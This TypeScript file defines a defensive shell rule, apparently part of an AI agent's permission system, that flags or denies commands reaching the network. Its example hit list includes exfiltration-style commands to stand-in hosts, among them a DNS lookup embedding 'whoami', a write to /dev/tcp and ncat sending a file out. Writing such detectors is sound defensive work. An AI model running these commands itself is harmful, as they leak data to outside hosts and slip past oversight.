import { judgeAddress } from '../../network/address.ts';
import type { Hit, ShellRule } from '../rule.ts';

/** Commands that reach other machines, by the network policy. */
export const networkCommand: ShellRule = {
  id: 'shell/network', action: 'ask', patternKey: 'network_command', approvalAction: 'network_access',
  reason: 'It reaches the network',
  instead: 'Use what is in the workspace, or name the host so that it can be allowed.',
  find: (form, { network }) => {
    let worst: Hit | undefined;
    for (const segment of form.segments) {
      for (const concern of segment.concerns) {
        if (concern.key !== 'network') continue;
        if (network.policy === 'deny') return { detail: concern.detail, action: 'deny', patternKey: 'network_denied' };
        const answer = concern.address === undefined || concern.address === '' ? undefined : judgeAddress(concern.address, network);
        if (answer?.patternKey === 'host_denied') return { detail: `${concern.detail} ${concern.address ?? ''}`, action: 'deny', patternKey: 'host_denied' };
        if (answer?.action === 'allow' && segment.name === 'curl') continue;
        worst ??= { detail: concern.address === undefined || concern.address === '' ? concern.detail : `${concern.detail} ${concern.address}`, patternKey: answer?.patternKey };
      }
    }
    return worst;
  },
  examples: {
    hit: ['curl https://example.com', 'wget https://x.test/a', 'ssh host ls', 'nslookup $(whoami).x.test', 'echo x > /dev/tcp/1.2.3.4/80', 'rsync -a . x.test::m', 'ncat x.test 443 < f', 'scp a b:c', 'ping x.test'],
    miss: ['cat curl.md', 'rsync -a a/ b/', 'ls'],
  },
};
